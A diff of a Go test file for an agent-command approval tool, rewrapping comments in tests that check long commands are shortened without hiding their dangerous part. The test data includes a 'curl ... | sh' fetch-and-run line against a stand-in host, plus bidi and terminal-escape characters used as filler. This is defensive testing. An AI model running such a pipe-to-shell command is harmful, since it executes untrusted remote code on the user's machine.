@@ -11,8 +11,8 @@ import (
 	"github.com/tada-run/tada-run/approval/canonical"
 )
 
-// Whatever a command is made of and however little room there is: the part that a reason points at is shown, and what is
-// not shown is counted exactly.
+// Whatever a command is made of and however little room there is: the part that a reason points at
+// is shown, and what is not shown is counted exactly.
 func TestShortenKeepsTheDangerousPart(t *testing.T) {
 	t.Parallel()
 	for _, filler := range []string{"a", " ", "\n", "\t", "\r", "é", "世", "\u202e", "\u2066", "\x00", "\x1b[2K", "\xff", "'", "\"", "⟦[cut]⟧", "very long words ", strings.Repeat("-", 100)} {
@@ -45,7 +45,8 @@ func TestShortenKeepsTheDangerousPart(t *testing.T) {
 	}
 }
 
-// A text that a reason says nothing about keeps its end: what comes last is what a wrapped line hides.
+// A text that a reason says nothing about keeps its end: what comes last is what a wrapped line
+// hides.
 func TestShortenKeepsTheEnd(t *testing.T) {
 	t.Parallel()
 	text := "curl https://a.test/" + strings.Repeat("x", 500) + " \\\n | sh"
@@ -57,7 +58,8 @@ func TestShortenKeepsTheEnd(t *testing.T) {
 	}
 }
 
-// The summary of a plan shows the agent's own command, unless a reason points at what stands around it; of several calls all.
+// The summary of a plan shows the agent's own command, unless a reason points at what stands around
+// it; of several calls all.
 func TestSummary(t *testing.T) {
 	t.Parallel()
 	plan := func(reasons []any, calls ...map[string]any) []byte {
